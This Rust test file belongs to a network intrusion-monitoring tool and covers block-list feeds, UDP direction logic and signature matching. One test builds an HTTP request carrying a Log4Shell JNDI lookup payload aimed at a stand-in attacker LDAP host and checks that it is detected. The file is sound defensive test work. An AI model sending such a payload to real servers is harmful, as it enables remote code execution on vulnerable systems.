//! Counts and samples in, events out.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

use netwatch_common::classify::ACK;
use netwatch_common::{ListedCounts, ListedKey, Sample, Settings};
use xtask::traffic::Frame;
use xtask::traffic::transport::Tcp;

use super::*;
use crate::analysis::detail::Listed;
use crate::analysis::{Detail, Severity};
use crate::feeds::FeedConfig;
use crate::signatures::{Wanted, load::load};

const BAD: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
const OURS: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 5);

#[test]
fn names_keep_their_numbers() {
    let mut numbers = Numbers::default();
    assert_eq!((numbers.of("b"), numbers.of("a"), numbers.of("b")), (Some(0), Some(1), Some(0)));
    for number in 0..70_000 {
        numbers.of(&number.to_string());
    }
    assert_eq!((numbers.of("one more"), numbers.of("a")), (None, Some(1)));
}

#[test]
fn a_listed_address_is_told_once_for_each_feed_that_lists_it() {
    let folder = std::env::temp_dir().join(format!("netwatch-lists-{}", std::process::id()));
    std::fs::create_dir_all(&folder).unwrap();
    let file = |name: &str, text: &str| {
        let path = folder.join(name);
        std::fs::write(&path, text).unwrap();
        path
    };
    let mut own = FeedConfig::new("own", file("own", "203.0.113.7 # seen here\n"));
    own.severity = Some(Severity::Critical);
    own.tags = vec!["botnet".into()];
    let wide = FeedConfig::new("wide", file("wide", "203.0.113.0/24 ; EX1\n192.0.2.0/24 ; EX2\n"));
    let never = crate::feeds::Prefix { first: IpAddr::from([192, 0, 2, 0]), bits: 24 };
    let now = jiff::Timestamp::now();
    let (mut lists, Fresh { outcome, lines }) = Lists::start(vec![own, wide], vec![never], now).unwrap();
    assert_eq!(outcome.notes, [""; 0]);
    let listed = |addr: Ipv4Addr| netwatch_common::prefixes::contains(lines.as_slice(), &addr.into());
    assert!(listed(BAD) && !listed(OURS), "what is ours is never listed");

    let key = ListedKey { remote: BAD.into(), local: OURS.into() };
    let counts = ListedCounts { packets_in: 2, packets_out: 1, opened: 1, ..ListedCounts::ZERO };
    let events = lists.events(0, &key, &counts);
    let told: Vec<_> = events
        .iter()
        .map(|event| {
            let Detail::Listed(listed) = &event.detail else { panic!("{event:?}") };
            let why = &listed.listing;
            (event.item, event.severity, &*why.feed, &*why.entry, &*why.comment, listed.begun)
        })
        .collect();
    let expected = [
        (0, Severity::Critical, "own", "203.0.113.7", "seen here", 1),
        (1, Severity::High, "wide", "203.0.113.0/24", "EX1", 1),
    ];
    assert_eq!(told, expected);
    let other = ListedKey { remote: Ipv4Addr::new(198, 51, 100, 1).into(), ..key };
    assert_eq!(lists.events(0, &other, &counts), []);
    let wrong = FeedConfig::new("wrong", file("wrong", "203.0.113.7\nnonsense here\n"));
    let problems = Lists::start(vec![wrong], Vec::new(), now).unwrap_err();
    assert!(problems.iter().any(|problem| problem.contains("wrong:2:")), "{problems:?}");
    std::fs::remove_dir_all(&folder).unwrap();
}

#[test]
fn an_answer_over_udp_begins_nothing() {
    let mut lists = Lists::default();
    assert_eq!(
        lists.events(0, &ListedKey { remote: BAD.into(), local: OURS.into() }, &ListedCounts::ZERO),
        []
    );
    let begun = |udp_in_ns, udp_begun_ns| {
        let counts = ListedCounts { udp_in: 1, udp_begun: 1, udp_in_ns, udp_begun_ns, ..ListedCounts::ZERO };
        let key = ListedKey { remote: BAD.into(), local: OURS.into() };
        let mut all = Listed::default();
        all.merge(&lists::listed(&key, &counts, crate::analysis::detail::Listing::default()));
        all.is_contact()
    };
    assert!(begun(9, 5), "we asked");
    assert!(!begun(5, 9), "we were asked");
}

#[test]
fn a_sampled_attack_becomes_an_event_and_its_ports_are_looked_at() {
    let signatures = Arc::new(load(&Wanted::default()).unwrap());
    let mut inspection = Inspection::new(Arc::clone(&signatures), 2);
    assert!(!inspection.ports().is_empty());
    let request = b"GET /?x=${jndi:ldap://203.0.113.7/a} HTTP/1.1\r\nHost: a.example\r\n\r\n";
    let segment = Tcp::new(40_000, 8080, ACK).payload(request);
    let frame = Frame::ipv4(BAD, OURS).carrying(segment).build();
    let sample = Sample {
        at_ns: 5,
        wire_len: u32::try_from(frame.len()).unwrap(),
        captured: u32::try_from(frame.len()).unwrap(),
        side: Sample::CLIENT,
        purpose: Sample::PAYLOAD,
        ..Sample::default()
    };
    let events = inspection.events(1, &sample, &frame, &Settings::DEFAULT);
    let [event] = &events[..] else { panic!("{events:?}") };
    let Detail::Matched(matched) = &event.detail else { panic!("{event:?}") };
    assert!(matched.signature.id.contains("log4shell"), "{matched:?}");
    assert_eq!((matched.source_port, matched.dest_port, matched.dest), (40_000, 8080, IpAddr::V4(OURS)));
    assert!(matched.excerpt.windows(6).any(|bytes| bytes == b"${jndi") && !matched.outgoing);
    // It is the same flow, and another interface.
    assert_eq!(inspection.events(1, &sample, &frame, &Settings::DEFAULT), []);
    assert_eq!(inspection.events(0, &sample, &frame, &Settings::DEFAULT).len(), 1);
    assert_eq!(inspection.events(7, &sample, &frame, &Settings::DEFAULT), []);
    assert_eq!(inspection.counters().matches, 2);
    inspection.replace(&Arc::default());
    assert!(inspection.ports().is_empty());
}
